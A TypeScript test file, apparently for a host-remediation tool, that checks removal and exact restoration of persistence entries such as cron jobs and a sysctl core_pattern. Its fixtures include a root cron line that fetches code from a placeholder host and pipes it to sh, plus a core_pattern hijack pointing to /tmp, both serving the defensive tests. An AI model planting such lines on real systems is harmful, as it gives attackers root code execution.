import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertRefused, assertThereAndBack, performed } from '../../test/actions.ts'
import { changeableHost, sha256Of, stepOf } from '../../test/control.ts'
import { type EitherHost, onBoth, realAttributes } from '../../test/disk-host.ts'
import { bytesOf, textOf } from '../core/bytes.ts'
import type { Autostart } from '../core/facts/autostart.ts'
import { isGap, known } from '../core/gap.ts'
import type { Step } from '../core/plan.ts'
import type { Node } from '../host/memory.ts'
import { persistence } from '../persistence/index.ts'
import { disarmAutostart } from './disarm-autostart.ts'

const path = '/etc/cron.d/x'
const line = '* * * * * root curl http://192.0.2.1/a|sh\n'
const crontab = `# system\nMAILTO=""\n${line}@daily www true\n${line}# between\n${line}`

function listed(host: EitherHost, kind = 'cron-d'): Autostart[] {
  return [...persistence.find(p => p.id === kind)!.list(host.host)].filter(known)
}

/** A step as planned on the host as it is now. */
function stepFor(host: EitherHost, entry: Autostart, id = 'S01'): Step {
  const digest = host.host.files.digest(entry.path, 'sha256')
  assert.ok(!isGap(digest))
  return stepOf({
    id,
    action: 'disarm-autostart',
    before: digest,
    detail: { entry: JSON.stringify(entry), kind: entry.kind, path: entry.path },
  })
}

onBoth('cuts one job out, and takes it back with every byte, mode, owner, time and attribute', hostOf => {
  const host = hostOf({ [path]: { content: crontab, mode: 0o600, uid: 7, immutable: true, xattrs: { 'user.note': bytesOf('x') } } })
  const entry = listed(host)[1]!
  assertThereAndBack(disarmAutostart, stepFor(host, entry), host, () => {
    assert.equal(textOf(host.at(path)!.bytes), crontab.replace('@daily www true\n', ''))
  })
})

onBoth('several entries of one file: last first, each on what the one before left, taken back in reverse', hostOf => {
  const host = hostOf({ [path]: crontab })
  const steps = listed(host)
    .map((entry, i) => stepFor(host, entry, `S0${i}`))
    .reverse()
  const before = host.picture()
  const done = steps.map(step => performed(disarmAutostart, step, host))
  assert.equal(textOf(host.at(path)!.bytes), '# system\nMAILTO=""\n# between\n')
  for (const step of steps) assert.equal(disarmAutostart.verify(step, host), undefined)
  for (const go of done.toReversed()) assert.equal(disarmAutostart.undo(go, host), undefined)
  assert.deepEqual(host.picture(), before)
})

test('several entries in any order: each is cut or refused, never another', () => {
  const jobs = ['a', 'b', 'c', 'd'].map(name => `* * * * * root /tmp/${name}\n`)
  fc.assert(
    fc.property(fc.shuffledSubarray([0, 1, 2, 3], { minLength: 1 }), order => {
      const host = changeableHost({ [path]: `# x\n${jobs.join('# y\n')}` })
      const before = host.picture()
      const entries = listed(host)
      const steps = order.map(i => stepFor(host, entries[i]!, `S0${i}`))
      const done = steps.map(step => performed(disarmAutostart, step, host))
      const left = jobs.filter((_, i) => !order.includes(i))
      assert.deepEqual(
        listed(host).map(e => `${e.text}\n`),
        left,
      )
      for (const go of done.toReversed()) assert.equal(disarmAutostart.undo(go, host), undefined)
      assert.deepEqual(host.picture(), before)
    }),
  )
})

onBoth('a step below others is not taken back before them', hostOf => {
  const host = hostOf({ [path]: crontab })
  const [last, , first] = listed(host)
    .map((entry, i) => stepFor(host, entry, `S0${i}`))
    .reverse()
  const one = performed(disarmAutostart, last!, host)
  const two = performed(disarmAutostart, first!, host)
  const now = host.picture()
  const refused = disarmAutostart.undo(one, host)
  assert.ok(isGap(refused) && refused.why === 'tampered')
  assert.deepEqual(host.picture(), now)
  assert.equal(disarmAutostart.undo(two, host), undefined)
  assert.equal(disarmAutostart.undo(one, host), undefined)
})

onBoth('what an earlier step took out along is done; what stands there more than once by now is refused', hostOf => {
  const host = hostOf({ [path]: crontab })
  const entries = listed(host)
  const again = stepFor(host, entries[1]!, 'S02')
  performed(disarmAutostart, stepFor(host, entries[1]!), host)
  assert.deepEqual(performed(disarmAutostart, again, host).undo, { changes: [] })
  const twins = hostOf({ [path]: `${line}# one\n${line}# two\n${line}` })
  const [first, second] = listed(twins).map(entry => stepFor(twins, entry))
  performed(disarmAutostart, first!, twins)
  assertRefused(disarmAutostart, second!, twins, 'absent')
})

onBoth('what somebody else changed since the plan is drift, also when the entry still stands there', hostOf => {
  const host = hostOf({ [path]: crontab })
  const step = stepFor(host, listed(host)[0]!)
  host.put(path, `${crontab}@daily root /usr/bin/new\n`)
  assertRefused(disarmAutostart, step, host, 'tampered')
  // Also when it was collected as evidence and so lies in the vault.
  host.vault.keep(host.at(path)!.bytes)
  assertRefused(disarmAutostart, step, host, 'tampered')
})

onBoth('what somebody else changed after the step is not overwritten when it is taken back', hostOf => {
  const host = hostOf({ [path]: crontab })
  const go = performed(disarmAutostart, stepFor(host, listed(host)[0]!), host)
  host.put(path, 'owner wrote this\n')
  const before = host.picture()
  assert.ok(isGap(disarmAutostart.undo(go, host)))
  assert.ok(isGap(disarmAutostart.apply(go, host)))
  assert.deepEqual(host.picture(), before)
})

onBoth('an entry that is gone, and a file that is gone, are refused', hostOf => {
  const host = hostOf({ [path]: crontab })
  const step = stepFor(host, listed(host)[1]!)
  host.put(path, '# nothing\n')
  assertRefused(disarmAutostart, { ...step, before: sha256Of('# nothing\n') }, host, 'absent')
  host.put(path, undefined)
  assertRefused(disarmAutostart, step, host, 'absent')
})

onBoth('a whole file goes into the vault and comes back with set-uid, attributes and flags', hostOf => {
  const node: Node = {
    content: '#!/bin/sh\n/tmp/x &\n',
    mode: 0o4755,
    uid: 3,
    gid: 4,
    immutable: true,
    xattrs: realAttributes,
  }
  const host = hostOf({ '/etc/cron.hourly/x': node })
  const [entry] = listed(host, 'cron-hourly')
  const step = stepFor(host, entry!)
  assertThereAndBack(disarmAutostart, step, host, () => assert.equal(host.at('/etc/cron.hourly/x'), undefined))
  performed(disarmAutostart, step, host)
  host.put('/etc/cron.hourly/x', 'back again')
  assert.ok(isGap(disarmAutostart.verify(step, host)))
})

onBoth('an entry found through symlinks is changed where it really lies; a link that is an entry goes itself', hostOf => {
  const host = hostOf({
    '/lib': { link: 'usr/lib' },
    '/usr/lib/sysctl.d/9.conf': 'kernel.core_pattern=|/tmp/x %p\nvm.swappiness=1\n',
    '/etc/cron.hourly/x': { link: '../../opt/x' },
    '/opt/x': { content: '#!/bin/sh\n', mode: 0o755 },
  })
  const [value] = listed(host, 'core-pattern')
  const moved = { ...value!, path: '/lib/sysctl.d/9.conf' }
  assertThereAndBack(disarmAutostart, stepFor(host, moved), host, () => {
    assert.equal(textOf(host.at('/usr/lib/sysctl.d/9.conf')!.bytes), 'vm.swappiness=1\n')
  })
  const [hourly] = listed(host, 'cron-hourly')
  assertThereAndBack(disarmAutostart, stepFor(host, hourly!), host, () => {
    assert.equal(host.at('/etc/cron.hourly/x'), undefined)
    assert.notEqual(host.at('/opt/x'), undefined)
  })
})

test('formats the kernel would forget, unknown kinds and a detail that is none are refused', () => {
  const host = changeableHost({ [path]: crontab })
  const [entry] = listed(host)
  const step = stepFor(host, entry!)
  const told = (change: Partial<Autostart>): Step => ({ ...step, detail: { entry: JSON.stringify({ ...entry, ...change }) } })
  assertRefused(disarmAutostart, told({ path: '/proc/sys/fs/binfmt_misc/x' }), host, 'unsupported')
  assertRefused(disarmAutostart, told({ kind: 'none' }), host, 'unsupported')
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.json()), text => {
      assertRefused(disarmAutostart, { ...step, detail: { entry: text } }, host, 'malformed')
    }),
  )
})
